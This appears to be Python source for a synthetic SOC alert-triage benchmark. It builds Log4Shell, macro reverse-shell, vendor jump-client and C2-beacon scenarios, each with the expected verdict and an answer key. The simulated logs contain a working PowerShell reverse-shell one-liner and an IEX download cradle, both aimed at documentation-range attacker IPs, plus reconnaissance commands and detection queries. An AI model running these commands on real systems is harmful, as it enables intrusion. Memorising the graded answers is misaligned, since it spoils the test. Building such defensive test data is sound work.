"""Exploitation of an exposed service, reverse shells, C2 beaconing and exfiltration."""
from __future__ import annotations

from datetime import timedelta

from alerts import (SECURITY_INDEX, SYSMON_INDEX, ancestors_for, ecs_from_security, ecs_from_sysmon1, ecs_host, elastic_alert, ocsf_device,
                    ocsf_endpoint, ocsf_finding, ocsf_user, related_event)
from common import DOMAIN, NETBIOS
from enterprise import C, U, IP_OF, hkey, ukey
from scen import CORELIGHT, TENZIR, at, desktop_session, fmt, machine_online, net_logon, rec, scenario
from winevt import Events
from fam_lateral import proc_alert

PORTAL = "pkg:maven/com.larchmontmutual/customer-portal@4.2.0"
TOMCAT = "C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\bin\\tomcat9.exe"
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"


def zref(z):
    return f"conn {z['uid']}"


def tomcat(ev, host):
    p = ev.sysproc(host, TOMCAT, 2716, user="svc-iis-portal",
                   cmd="\"C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\bin\\tomcat9.exe\" //RS//Tomcat9")
    p["logon_id"] = "0x4f21a"
    return p


def portal_traffic(ev, start, end, n, src_pool=("73.114.20.8", "98.217.44.19", "24.60.12.201", "66.30.150.7", "108.49.9.77")):
    r = ev.rng
    span = (ev._t(end) - ev._t(start)).total_seconds()
    for _ in range(n):
        t = ev._t(start) + timedelta(seconds=r.uniform(0, span))
        web = r.choice(["DMZ-WEB-01", "DMZ-WEB-02"])
        ev.conn(t, r.choice(src_pool), C(web).ip, 443, service="ssl", ob=r.randint(1500, 9000), rb=r.randint(20_000, 900_000), duration=round(r.uniform(0.5, 40), 3))
        if r.random() < 0.3:
            ev.conn(t + timedelta(milliseconds=80), C(web).ip, C("BOS-SQL-01").ip, 1433, service="-", ob=r.randint(800, 4000), rb=r.randint(2000, 90000))


@scenario
def log4shell_portal_rce_from_internet():
    sid = "log4shell-portal-rce-from-internet"
    ev = Events(sid, "2025-03-14 07:00:00", "2025-03-14 08:30:00")
    ev.background(["DMZ-WEB-01", "DMZ-WEB-02", "BOS-SQL-01"], density=0.5)
    portal_traffic(ev, "2025-03-14 07:00:00", "2025-03-14 08:30:00", 120)
    web, atk = "DMZ-WEB-01", "192.0.2.44"
    ip = C(web).ip
    probes = [ev.conn(at("2025-03-14 07:41:10", seconds=k * 9), atk, ip, 443, service="ssl", ob=2300 + k, rb=1800) for k in range(6)]
    cb = ev.conn(at("2025-03-14 07:42:06"), ip, atk, 1389, service="ldap", ob=312, rb=1190)
    cls = ev.conn(at("2025-03-14 07:42:07"), ip, atk, 8080, service="http", ob=388, rb=6412)
    tc = tomcat(ev, web)
    ev.netconn(web, at("2025-03-14 07:42:06"), tc, atk, 1389)
    cmd = ev.proc(web, at("2025-03-14 07:42:09"), CMD,
                  "cmd.exe /c powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.44:8080/s.ps1')\"",
                  tc, user="svc-iis-portal", logon_id="0x4f21a", integrity="Medium")
    ps = ev.proc(web, at("2025-03-14 07:42:09.400"), PS,
                 "powershell  -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.44:8080/s.ps1')\"",
                 cmd, user="svc-iis-portal", logon_id="0x4f21a", integrity="Medium")
    ev.netconn(web, at("2025-03-14 07:42:10"), ps, atk, 8080)
    ev.conn(at("2025-03-14 07:42:10"), ip, atk, 8080, service="http", ob=402, rb=24_118)
    ev.netconn(web, at("2025-03-14 07:42:12"), ps, atk, 443)
    shell = ev.conn(at("2025-03-14 07:42:12"), ip, atk, 443, service="-", ob=61_220, rb=14_904, duration=2710.0)
    kids = []
    for k, (img, c) in enumerate([("C:\\Windows\\System32\\whoami.exe", "\"C:\\Windows\\system32\\whoami.exe\" /all"),
                                  ("C:\\Windows\\System32\\net.exe", "\"C:\\Windows\\system32\\net.exe\" user /domain"),
                                  ("C:\\Windows\\System32\\nltest.exe", "\"C:\\Windows\\system32\\nltest.exe\" /dclist:lmi.intra")]):
        kids.append(ev.proc(web, at("2025-03-14 07:44:30", seconds=k * 40), img, c, ps, user="svc-iis-portal", logon_id="0x4f21a", integrity="Medium"))
    ev.conn(at("2025-03-14 07:45:10"), ip, C("BOS-ADDS-01").ip, 389, service="ldap", ob=2100, rb=88_400)
    ev.finalize()
    alert = ocsf_finding("cl-log4shell-0314-0742", "2025-03-14 07:42:20", "Log4Shell (CVE-2021-44228) exploitation: JNDI callback from DMZ host",
                         f"HTTPS request from {atk} to {web} followed within 60 s by outbound LDAP (1389) and HTTP (8080) from {ip} to {atk}.",
                         "critical", CORELIGHT, ("corelight-log4j-callback", "Log4j JNDI callback", "Initial Access"), ["T1190"],
                         evidences=[{"src_endpoint": ocsf_endpoint(atk, port=probes[-1]["id.orig_p"]), "dst_endpoint": ocsf_endpoint(ip, f"{web.lower()}.lmi.intra", 443)},
                                    {"src_endpoint": ocsf_endpoint(ip, f"{web.lower()}.lmi.intra"), "dst_endpoint": ocsf_endpoint(atk, port=1389),
                                     "connection_info": {"protocol_name": "tcp", "direction": "Outbound", "direction_id": 2}}],
                         data_sources=["Zeek conn.log", "Zeek ssl.log"], first_seen="2025-03-14 07:41:10", last_seen="2025-03-14 07:42:07",
                         observables=[{"name": "src_endpoint.ip", "type": "IP Address", "type_id": 2, "value": atk},
                                      {"name": "vulnerability", "type": "Other", "type_id": 99, "value": "CVE-2021-44228"}],
                         unmapped={"uids": [probes[-1]["uid"], cb["uid"], cls["uid"]]})
    why = (f"After HTTPS requests from {atk} ({zref(probes[0])} ...), {web} called back to {atk}:1389 (LDAP, {zref(cb)}) and fetched a class over 8080 "
           f"({zref(cls)}), the Log4Shell sequence; Trivy lists log4j-core 2.14.1 with CVE-2021-44228 (KEV) on {web}. Two seconds later Tomcat (svc-iis-portal) "
           f"spawned cmd.exe -> PowerShell downloading s.ps1 from {atk} ({rec(cmd)}, {rec(ps)}), which held a 45-minute session to {atk}:443 ({zref(shell)}) and ran "
           f"whoami /all, net user /domain, nltest /dclist ({rec(kids[0])} ...). The portal server was compromised from the internet.")
    expect = {"verdict": "true_positive", "severity": "critical",
              "entities": [hkey(web), atk, "CVE-2021-44228", PORTAL, ukey("svc-iis-portal")],
              "source": [atk], "attack_path": [atk, hkey(web)], "impacted_assets": [hkey(web), "POLICYHOLDER-DB"],
              "techniques": ["T1190", "T1059.001"], "must_not_cite": [hkey("DMZ-WEB-02"), "CVE-2021-44832"], "why": why}
    return sid, "Log4Shell on the customer portal, shell to the internet", ev, alert, expect, "json"


def asv_scan(ev, day_start, src="64.39.98.17", callback="64.39.104.5"):
    out = []
    for k in range(10):
        for web in ("DMZ-WEB-01", "DMZ-WEB-02"):
            out.append(ev.conn(at(day_start, seconds=k * 23), src, C(web).ip, 443, service="ssl", ob=2600 + k * 11, rb=1400 + k * 3))
    cbs = [ev.conn(at(day_start, seconds=41), C("DMZ-WEB-01").ip, callback, 1389, service="ldap", ob=298, rb=62)]
    return out, cbs


@scenario
def log4shell_callback_to_non_asv_address():
    sid = "log4shell-callback-to-non-asv-address"
    ev = Events(sid, "2025-03-04 13:30:00", "2025-03-04 15:00:00")
    ev.background(["DMZ-WEB-01", "DMZ-WEB-02"], density=0.4)
    portal_traffic(ev, "2025-03-04 13:30:00", "2025-03-04 15:00:00", 100)
    web = "DMZ-WEB-01"
    ip = C(web).ip
    asv, asv_cb = asv_scan(ev, "2025-03-04 14:05:00")
    atk = "192.0.2.114"
    probes = [ev.conn(at("2025-03-04 14:19:51", seconds=k * 4), atk, ip, 443, service="ssl", ob=2611, rb=1402) for k in range(3)]
    cb = ev.conn(at("2025-03-04 14:20:04"), ip, atk, 1389, service="ldap", ob=301, rb=1214)
    cls = ev.conn(at("2025-03-04 14:20:05"), ip, atk, 8888, service="http", ob=391, rb=5_233)
    tc = tomcat(ev, web)
    ev.netconn(web, at("2025-03-04 14:20:04"), tc, atk, 1389)
    ev.netconn(web, at("2025-03-04 14:20:05"), tc, atk, 8888)
    ev.finalize()
    alert = ocsf_finding("cl-log4shell-0304-1420", "2025-03-04 14:20:15", "Log4Shell (CVE-2021-44228) exploitation: JNDI callback from DMZ host",
                         f"HTTPS request from {atk} to {web} followed by outbound LDAP (1389) and HTTP (8888) from {ip} to {atk}.",
                         "critical", CORELIGHT, ("corelight-log4j-callback", "Log4j JNDI callback", "Initial Access"), ["T1190"],
                         evidences=[{"src_endpoint": ocsf_endpoint(atk), "dst_endpoint": ocsf_endpoint(ip, f"{web.lower()}.lmi.intra", 443)},
                                    {"src_endpoint": ocsf_endpoint(ip), "dst_endpoint": ocsf_endpoint(atk, port=1389)}],
                         data_sources=["Zeek conn.log"], first_seen="2025-03-04 14:19:51", last_seen="2025-03-04 14:20:05",
                         unmapped={"uids": [probes[0]["uid"], cb["uid"], cls["uid"]]})
    why = (f"The documented ASV scan (Qualys 64.39.96.0/20, first Tuesday 13:00-17:00 UTC) did run at 14:05 from 64.39.98.17 ({zref(asv[0])}), and its JNDI probe "
           f"only produced a 62-byte LDAP callback to Qualys' 64.39.104.5 ({zref(asv_cb[0])}). The alerted requests at 14:19, inside the same window and with the same JNDI probe, came from {atk}, which is "
           f"not in 64.39.96.0/20, and this time {web} - log4j-core 2.14.1, CVE-2021-44228 - not only called back to {atk}:1389 ({zref(cb)}) but "
           f"downloaded a 5 KB class from {atk}:8888 ({zref(cls)}), seen in Sysmon as Tomcat's own connections. A payload was loaded into the portal's JVM by a "
           "non-ASV source: exploitation, not the authorised scan.")
    expect = {"verdict": "true_positive", "severity": "critical",
              "entities": [hkey(web), atk, "CVE-2021-44228", PORTAL], "source": [atk], "attack_path": [atk, hkey(web)],
              "impacted_assets": [hkey(web), "POLICYHOLDER-DB"], "techniques": ["T1190"],
              "must_not_cite": ["64.39.98.17", "64.39.104.5", hkey("DMZ-WEB-02")], "why": why}
    return sid, "Log4j callback and class download to a non-ASV address during the ASV window", ev, alert, expect, "tsv"


@scenario
def log4shell_asv_scan_window():
    sid = "log4shell-asv-scan-window"
    ev = Events(sid, "2025-03-04 13:30:00", "2025-03-04 15:00:00")
    ev.background(["DMZ-WEB-01", "DMZ-WEB-02"], density=0.4)
    portal_traffic(ev, "2025-03-04 13:30:00", "2025-03-04 15:00:00", 100)
    prev, prev_cb = asv_scan(ev, "2025-02-04 14:03:00")
    asv, cbs = asv_scan(ev, "2025-03-04 14:05:00")
    ev.finalize()
    alert = ocsf_finding("cl-log4j-attempt-0304-1405", "2025-03-04 14:06:00", "Log4j exploit attempt: JNDI lookup string in HTTP headers",
                         "JNDI lookup strings (${jndi:ldap://...}) in User-Agent and X-Api-Version headers of requests from 64.39.98.17 to the customer portal.",
                         "high", CORELIGHT, ("corelight-log4j-attempt", "Log4j JNDI string in HTTP", "Initial Access"), ["T1190"],
                         evidences=[{"src_endpoint": ocsf_endpoint("64.39.98.17"), "dst_endpoint": ocsf_endpoint(C("DMZ-WEB-01").ip, "dmz-web-01.lmi.intra", 443)},
                                    {"src_endpoint": ocsf_endpoint("64.39.98.17"), "dst_endpoint": ocsf_endpoint(C("DMZ-WEB-02").ip, "dmz-web-02.lmi.intra", 443)}],
                         data_sources=["Zeek conn.log", "Zeek http.log"], first_seen="2025-03-04 14:05:00", last_seen="2025-03-04 14:08:27",
                         unmapped={"uids": [z["uid"] for z in asv[:4]]})
    why = (f"The requests come from 64.39.98.17, inside the Qualys range 64.39.96.0/20 that the web servers' inventory tags name as the authorised ASV scanner, "
           f"on Tuesday 4 March (first Tuesday) 14:05 UTC within the 13:00-17:00 window ({zref(asv[0])} ...); the only follow-up is a 62-byte LDAP callback to "
           f"Qualys' 64.39.104.5 ({zref(cbs[0])}) - no class download, no child process of Tomcat. The same scan ran on 4 February ({zref(prev[0])}). "
           "The exploit string is real; the vulnerability (log4j 2.14.1 on DMZ-WEB-01) needs patching, but this traffic is the authorised scan.")
    expect = {"verdict": "benign_positive", "severity": "low",
              "entities": [hkey("DMZ-WEB-01"), hkey("DMZ-WEB-02"), "64.39.98.17"], "source": ["64.39.98.17"], "impacted_assets": [],
              "techniques": ["T1190"], "must_not_cite": [hkey("DMZ-SFTP-01")], "why": why}
    return sid, "Authorised ASV scan sends Log4j probes", ev, alert, expect, "json"


@scenario
def sftp_misfire_regresshion_partner_upload():
    sid = "sftp-misfire-regresshion-partner-upload"
    ev = Events(sid, "2025-03-13 04:30:00", "2025-03-13 06:30:00")
    ev.background(["DMZ-WEB-01"], density=0.3)
    sftp, partner = "DMZ-SFTP-01", "198.51.100.24"
    ip = IP_OF[sftp]
    prev = [ev.conn(at("2025-03-12 05:08:11", minutes=k * 4), partner, ip, 22, service="ssh", ob=ev.rng.randint(2_000_000, 40_000_000), rb=ev.rng.randint(40_000, 90_000),
                    duration=round(ev.rng.uniform(30, 90), 3)) for k in range(4)]
    today = [ev.conn(at("2025-03-13 05:10:04", minutes=k * 4), partner, ip, 22, service="ssh", ob=ev.rng.randint(2_000_000, 40_000_000), rb=ev.rng.randint(40_000, 90_000),
                     duration=round(ev.rng.uniform(30, 90), 3)) for k in range(4)]
    ev.finalize()
    alert = ocsf_finding("cl-ssh-regresshion-0313-0512", "2025-03-13 05:12:00", "OpenSSH regreSSHion (CVE-2024-6387) exploitation attempt",
                         f"412 SSH connections from {partner} to {sftp} timed at the LoginGraceTime boundary (signal-handler race).", "critical", CORELIGHT,
                         ("corelight-ssh-regresshion", "regreSSHion race attempt", "Initial Access"), ["T1190"],
                         evidences=[{"src_endpoint": ocsf_endpoint(partner), "dst_endpoint": ocsf_endpoint(ip, "dmz-sftp-01.lmi.intra", 22)}],
                         data_sources=["Zeek conn.log", "Zeek ssh.log"], first_seen="2025-03-13 05:10:04", last_seen="2025-03-13 05:22:00",
                         observables=[{"name": "vulnerability", "type": "Other", "type_id": 99, "value": "CVE-2024-6387"}],
                         unmapped={"connection_count": 412, "uids": [z["uid"] for z in today]})
    why = (f"Zeek holds four SSH connections from {partner} to {sftp} between 05:10 and 05:22 ({zref(today[0])} ...), each completed (SF) and 30-90 s long with "
           f"megabytes uploaded - not 412 short connections cut at LoginGraceTime. {partner} is the Keystone Reinsurance partner whose daily 05:00-06:00 UTC "
           f"uploads the inventory documents, and the previous day shows the same four sessions ({zref(prev[0])}). Nmap and Trivy show OpenSSH 9.2p1-2+deb12u3, "
           "the Debian build fixed for CVE-2024-6387. No exploitation attempt happened.")
    expect = {"verdict": "false_positive", "severity": "informational",
              "entities": [hkey(sftp), partner], "source": [partner], "impacted_assets": [], "techniques": [],
              "must_not_cite": [hkey("DMZ-WEB-01")], "why": why}
    return sid, "Partner's daily SFTP upload reported as regreSSHion exploitation", ev, alert, expect, "tsv"


# --------------------------------------------------------------------------------------------- reverse shells
@scenario
def reverse_shell_from_macro_on_claims_laptop():
    sid = "reverse-shell-from-macro-on-claims-laptop"
    ev = Events(sid, "2025-03-11 12:30:00", "2025-03-11 14:00:00")
    ev.background(["BOS-LT-1061", "BOS-FS-01"], skip_users=("gmarsh2", "gmarsh"))
    lap, atk = "BOS-LT-1061", "192.0.2.77"
    ip = C(lap).ip
    mt = machine_online(ev, lap, at("2025-03-11 12:40:00"))
    lid, ex = desktop_session(ev, lap, "gmarsh2", at("2025-03-11 12:40:40"))
    ol = ev.proc(lap, at("2025-03-11 12:41:30"), "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"",
                 ex, user="gmarsh2", logon_id=lid, integrity="Medium", session="1")
    wd = ev.proc(lap, at("2025-03-11 13:11:40"), "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                 "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\gmarsh2\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q2K8L1\\Invoice_44871.doc\" /o \"\"",
                 ol, user="gmarsh2", logon_id=lid, integrity="Medium", session="1")
    cmd = ev.proc(lap, at("2025-03-11 13:12:03"), "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c start /b powershell -nop -w hidden -ep bypass -f %APPDATA%\\upd.ps1",
                  wd, user="gmarsh2", logon_id=lid, integrity="Medium", session="1")
    ps = ev.proc(lap, at("2025-03-11 13:12:04"), PS,
                 "powershell  -nop -w hidden -ep bypass -c \"$c=New-Object System.Net.Sockets.TCPClient('192.0.2.77',4444);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$s.Write(([text.encoding]::ASCII).GetBytes($o),0,$o.Length)}\"",
                 cmd, user="gmarsh2", logon_id=lid, integrity="Medium", session="1")
    nc = ev.netconn(lap, at("2025-03-11 13:12:05"), ps, atk, 4444)
    z = ev.conn(at("2025-03-11 13:12:05"), ip, atk, 4444, service="-", ob=48_112, rb=22_630, duration=1904.0)
    kids = []
    for k, (img, c) in enumerate([("C:\\Windows\\System32\\whoami.exe", "\"C:\\Windows\\system32\\whoami.exe\""),
                                  ("C:\\Windows\\System32\\ipconfig.exe", "\"C:\\Windows\\system32\\ipconfig.exe\" /all"),
                                  ("C:\\Windows\\System32\\nltest.exe", "\"C:\\Windows\\system32\\nltest.exe\" /dclist:lmi.intra"),
                                  ("C:\\Windows\\System32\\net.exe", "\"C:\\Windows\\system32\\net.exe\" group \"domain admins\" /domain")]):
        kids.append(ev.proc(lap, at("2025-03-11 13:14:10", seconds=k * 55), img, c, ps, user="gmarsh2", logon_id=lid, integrity="Medium", session="1"))
    ev.finalize()
    alert = proc_alert(sid, ps["ev"], "Potential Reverse Shell via PowerShell TCPClient",
                       "PowerShell creating a System.Net.Sockets.TCPClient and executing received data (reverse shell one-liner).", "critical",
                       ["T1059.001", "T1571"], "process event with process powershell.exe, parent process cmd.exe, by gmarsh2 on bos-lt-1061 created critical alert Potential Reverse Shell via PowerShell TCPClient.",
                       'process where process.name : "powershell.exe" and process.command_line : "*Net.Sockets.TCPClient*" and process.command_line : "*iex*"',
                       os_name="Windows 11 Enterprise")
    why = (f"On {lap} (Grace Marsh's claims laptop, {ip}; machine TGT {rec(mt)}) an Outlook attachment opened in WINWORD ({rec(wd)}) spawned cmd -> PowerShell with a "
           f"TCPClient read/iex loop to {atk}:4444 ({rec(ps)}); {rec(nc)} and Zeek ({zref(z)}, 32 minutes, interactive byte counts) show the session, "
           f"and the shell ran whoami, ipconfig, nltest /dclist and net group \"domain admins\" ({rec(kids[0])} ...). A macro-delivered reverse shell.")
    expect = {"verdict": "true_positive", "severity": "critical",
              "entities": [hkey(lap), ukey("gmarsh2"), atk], "source": [hkey(lap), ukey("gmarsh2")], "attack_path": [atk, hkey(lap)],
              "impacted_assets": [hkey(lap)], "techniques": ["T1059.001", "T1571", "T1566.001"],
              "must_not_cite": [ukey("gmarsh"), ukey("t1_gmarsh"), hkey("BOS-LT-1012")], "why": why}
    return sid, "Macro document opens a PowerShell reverse shell", ev, alert, expect, "tsv"


def vendor_session(ev, t, remote, cmds):
    host = "BOS-APP-08"
    bg = ev.sysproc(host, "C:\\ProgramData\\bomgar-scc-0x64d1f2a0\\bomgar-scc.exe", 4012, user="SYSTEM",
                    cmd="\"C:\\ProgramData\\bomgar-scc-0x64d1f2a0\\bomgar-scc.exe\" -service")
    z = ev.conn(t, C(host).ip, remote, 443, service="ssl", ob=ev.rng.randint(90_000, 300_000), rb=ev.rng.randint(40_000, 200_000), duration=1260.0)
    nc = ev.netconn(host, t, bg, remote, 443)
    procs = []
    tt = ev._t(t) + timedelta(seconds=40)
    for c in cmds:
        procs.append(ev.proc(host, tt, CMD, c, bg, user="SYSTEM", integrity="System"))
        tt += timedelta(seconds=75)
    return z, nc, procs


@scenario
def vendor_jump_client_shell_to_unlisted_address():
    sid = "vendor-jump-client-shell-to-unlisted-address"
    ev = Events(sid, "2025-03-13 21:30:00", "2025-03-13 23:30:00")
    ev.background(["BOS-APP-08", "BOS-SQL-02"], density=0.6)
    host = "BOS-APP-08"
    prev = vendor_session(ev, at("2025-03-12 15:10:22"), "198.51.100.40", ["cmd.exe /c \"D:\\Guidewire\\ClaimCenter\\admin\\bin\\gwb.bat collectLogs\""])
    z, nc, procs = vendor_session(ev, at("2025-03-13 22:40:11"), "198.51.100.41",
                                  ["cmd.exe /c whoami /all", "cmd.exe /c net group \"domain admins\" /domain",
                                   "cmd.exe /c type D:\\Guidewire\\ClaimCenter\\config\\database-config.xml"])
    ev.finalize()
    alert = proc_alert(sid, procs[0]["ev"], "Command shell spawned by remote-access software",
                       "cmd.exe started by a remote support/jump client (BeyondTrust, AnyDesk, TeamViewer...).", "high", ["T1219", "T1059.003"],
                       "process event with process cmd.exe, parent process bomgar-scc.exe, on bos-app-08 created high alert Command shell spawned by remote-access software.",
                       'process where process.parent.name : ("bomgar-scc.exe", "AnyDesk.exe", "TeamViewer.exe") and process.name : "cmd.exe"')
    why = (f"The jump client on {host} is approved (CHG-3012) only for Guidewire support from the vendor appliance 198.51.100.40, as in the previous day's 15:10 "
           f"session that ran gwb.bat collectLogs ({rec(prev[2][0])}). At 22:40 the client talked to 198.51.100.41 instead ({zref(z)}, {rec(nc)}) and the "
           f"shells it spawned ran whoami /all, enumerated Domain Admins and printed ClaimCenter's database-config.xml ({rec(procs[0])} ...) - reconnaissance and "
           "credential hunting, at night, from an unapproved endpoint.")
    expect = {"verdict": "true_positive", "severity": "high",
              "entities": [hkey(host), "198.51.100.41"], "source": ["198.51.100.41"], "attack_path": ["198.51.100.41", hkey(host)],
              "impacted_assets": [hkey(host), "CLAIMS-DB"], "techniques": ["T1219", "T1059.003"],
              "must_not_cite": ["198.51.100.40", hkey("BOS-APP-03")], "why": why}
    return sid, "Vendor jump client driven from an address one off the approved appliance", ev, alert, expect, "tsv"


@scenario
def vendor_jump_client_support_session():
    sid = "vendor-jump-client-support-session"
    ev = Events(sid, "2025-03-12 14:30:00", "2025-03-12 16:30:00")
    ev.background(["BOS-APP-08", "BOS-SQL-02"], density=0.6)
    host = "BOS-APP-08"
    prev = vendor_session(ev, at("2025-03-11 16:02:40"), "198.51.100.40", ["cmd.exe /c \"D:\\Guidewire\\ClaimCenter\\admin\\bin\\gwb.bat collectLogs\""])
    z, nc, procs = vendor_session(ev, at("2025-03-12 15:10:22"), "198.51.100.40",
                                  ["cmd.exe /c \"D:\\Guidewire\\ClaimCenter\\admin\\bin\\gwb.bat collectLogs\"",
                                   "cmd.exe /c dir D:\\Guidewire\\ClaimCenter\\logs"])
    ev.finalize()
    alert = proc_alert(sid, procs[0]["ev"], "Command shell spawned by remote-access software",
                       "cmd.exe started by a remote support/jump client (BeyondTrust, AnyDesk, TeamViewer...).", "high", ["T1219", "T1059.003"],
                       "process event with process cmd.exe, parent process bomgar-scc.exe, on bos-app-08 created high alert Command shell spawned by remote-access software.",
                       'process where process.parent.name : ("bomgar-scc.exe", "AnyDesk.exe", "TeamViewer.exe") and process.name : "cmd.exe"')
    why = (f"The shell ({rec(procs[0])}) was spawned by the BeyondTrust jump client on {host} during a session with 198.51.100.40 ({zref(z)}), the Guidewire support "
           f"appliance that {host}'s description and inventory tag approve under CHG-3012, on a weekday afternoon, and it ran Guidewire's own log collection "
           f"(gwb.bat collectLogs) exactly like the previous day's session ({rec(prev[2][0])}). Expected vendor support.")
    expect = {"verdict": "benign_positive", "severity": "low",
              "entities": [hkey(host), "198.51.100.40"], "source": ["198.51.100.40"], "impacted_assets": [], "techniques": ["T1219"],
              "must_not_cite": [hkey("BOS-APP-03"), hkey("BOS-APP-07")], "why": why}
    return sid, "Approved vendor support session collects logs", ev, alert, expect, "json"


@scenario
def reverse_shell_misfire_process_never_ran():
    sid = "reverse-shell-misfire-process-never-ran"
    ev = Events(sid, "2025-03-14 09:30:00", "2025-03-14 10:45:00")
    ev.background(["BOS-LT-1087"], skip_users=("bsmith",))
    lap = "BOS-LT-1087"
    ip = C(lap).ip
    mt = machine_online(ev, lap, at("2025-03-14 09:35:00"))
    lid, ex = desktop_session(ev, lap, "bsmith", at("2025-03-14 09:35:40"))
    tm = ev.proc(lap, at("2025-03-14 09:36:10"), "C:\\Program Files\\WindowsApps\\MSTeams_25031.805.3440.5290_x64__8wekyb3d8bbwe\\ms-teams.exe",
                 "\"C:\\Program Files\\WindowsApps\\MSTeams_25031.805.3440.5290_x64__8wekyb3d8bbwe\\ms-teams.exe\"", ex, user="bsmith", logon_id=lid,
                 integrity="Medium", session="1")
    ncs = []
    for k in range(6):
        ncs.append(ev.netconn(lap, at("2025-03-14 10:14:02", seconds=k * 3), tm, "52.112.95.1", 443))
        ev.conn(at("2025-03-14 10:14:02", seconds=k * 3), ip, "52.112.95.1", 443, service="ssl", ob=ev.rng.randint(2000, 9000), rb=ev.rng.randint(4000, 90000))
    ev.finalize()
    alert = ocsf_finding("tz-revshell-0314-1014", "2025-03-14 10:14:20", "Reverse shell: PowerShell outbound to non-standard port",
                         f"powershell.exe (pid 7312) on {lap} opened a TCP connection to 192.0.2.77:4444 as LMI\\bsmith.", "critical", TENZIR,
                         ("sigma-lmi-0402", "PowerShell network connection to uncommon port", "Command and Control"), ["T1059.001", "T1571"],
                         evidences=[{"process": {"pid": 7312, "name": "powershell.exe", "user": ocsf_user("bsmith")},
                                     "src_endpoint": ocsf_endpoint(ip, lap), "dst_endpoint": ocsf_endpoint("192.0.2.77", port=4444)}],
                         device=ocsf_device(f"{lap}.lmi.intra", ip, kind="Laptop", os_name="Windows 11 Enterprise"))
    why = (f"Sysmon on {lap} has no powershell.exe process at all in the window (no process create, no pid 7312) and no connection to 192.0.2.77; at 10:14 the "
           f"only network activity is ms-teams.exe to 52.112.95.1:443 ({rec(ncs[0])} ...), matched by Zeek, and Zeek has no flow from {ip} to 192.0.2.77 or to "
           "port 4444. The process and the connection the alert reports never happened.")
    expect = {"verdict": "false_positive", "severity": "informational",
              "entities": [hkey(lap), ukey("bsmith")], "impacted_assets": [], "techniques": [],
              "must_not_cite": [hkey("BOS-LT-1086"), hkey("BOS-LT-1061")], "why": why}
    return sid, "Reverse-shell alert for a process that never ran", ev, alert, expect, "tsv"


# --------------------------------------------------------------------------------------------- C2 / exfil
def beacon_alert_ocsf(uid, time, title, desc, src_ip, dst_ip, dport, uids, sev="high", count=None, interval=None, techs=("T1071.001",)):
    return ocsf_finding(uid, time, title, desc, sev, CORELIGHT, ("corelight-beacon", "Beaconing detection", "Command and Control"), list(techs),
                        evidences=[{"src_endpoint": ocsf_endpoint(src_ip), "dst_endpoint": ocsf_endpoint(dst_ip, port=dport),
                                    "connection_info": {"protocol_name": "tcp", "direction": "Outbound", "direction_id": 2}}],
                        data_sources=["Zeek conn.log"], unmapped={"sample_uids": uids[:5], "connection_count": count, "mean_interval_s": interval})


@scenario
def c2_beacon_from_sales_laptop():
    sid = "c2-beacon-from-sales-laptop"
    ev = Events(sid, "2025-03-12 11:45:00", "2025-03-12 18:15:00")
    ev.background(["BOS-LT-1102"], density=0.5, skip_users=("rlocke",))
    lap, c2 = "BOS-LT-1102", "198.51.100.77"
    ip = C(lap).ip
    mt = machine_online(ev, lap, at("2025-03-12 11:50:00"))
    lid, ex = desktop_session(ev, lap, "rlocke", at("2025-03-12 11:50:30"))
    img = "C:\\Users\\rlocke\\AppData\\Local\\Microsoft\\EdgeUpdate\\msedgeupdate.exe"
    rk = ev.reg_set(lap, at("2025-03-12 11:51:02"), ex, "HKU\\" + U("rlocke").sid + "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\MicrosoftEdgeUpdateCore",
                    img + " /c")
    b = ev.proc(lap, at("2025-03-12 11:58:40"), img, img + " /c", ex, user="rlocke", logon_id=lid, integrity="Medium", session="1")
    t = at("2025-03-12 12:00:00")
    zs, ncs = [], []
    while t < at("2025-03-12 18:00:00"):
        zs.append(ev.conn(t, ip, c2, 443, service="ssl", ob=ev.rng.randint(290, 350), rb=ev.rng.randint(230, 280), duration=round(ev.rng.uniform(0.3, 0.9), 3)))
        ncs.append(ev.netconn(lap, t, b, c2, 443))
        t += timedelta(seconds=60 + ev.rng.uniform(-6, 6))
    ev.finalize()
    alert = beacon_alert_ocsf("cl-beacon-0312-1800", "2025-03-12 18:00:30", "Periodic beaconing to rare external destination",
                              f"{len(zs)} TLS connections from {ip} to {c2}:443 at a 60 s interval (jitter 10%), 290-350 bytes out each.",
                              ip, c2, 443, [z["uid"] for z in zs], count=len(zs), interval=60.1)
    why = (f"Zeek shows {len(zs)} TLS connections from {ip} to {c2}:443 between 12:00 and 18:00, one every 60 s +-6 s with ~300 bytes each way ({zref(zs[0])} ...). "
           f"Sysmon on {lap} (Ryan Locke's laptop, machine TGT {rec(mt)}) attributes every one to msedgeupdate.exe in AppData\\Local\\Microsoft\\EdgeUpdate "
           f"({rec(b)}, {rec(ncs[0])}) - the real Edge updater lives in Program Files (x86) - which a Run key set at logon starts ({rec(rk)}). C2 beaconing.")
    expect = {"verdict": "true_positive", "severity": "high",
              "entities": [hkey(lap), ukey("rlocke"), c2], "source": [hkey(lap), ukey("rlocke")], "attack_path": [c2, hkey(lap)],
              "impacted_assets": [hkey(lap)], "techniques": ["T1071.001", "T1547.001"],
              "must_not_cite": [hkey("BOS-LT-1103"), hkey("BOS-LT-1101")], "why": why}
    return sid, "Fake Edge updater beacons every minute from a sales laptop", ev, alert, expect, "tsv"


@scenario
def beacon_azure_guest_agent_wireserver():
    sid = "beacon-azure-guest-agent-wireserver"
    ev = Events(sid, "2025-03-13 09:00:00", "2025-03-13 12:00:00")
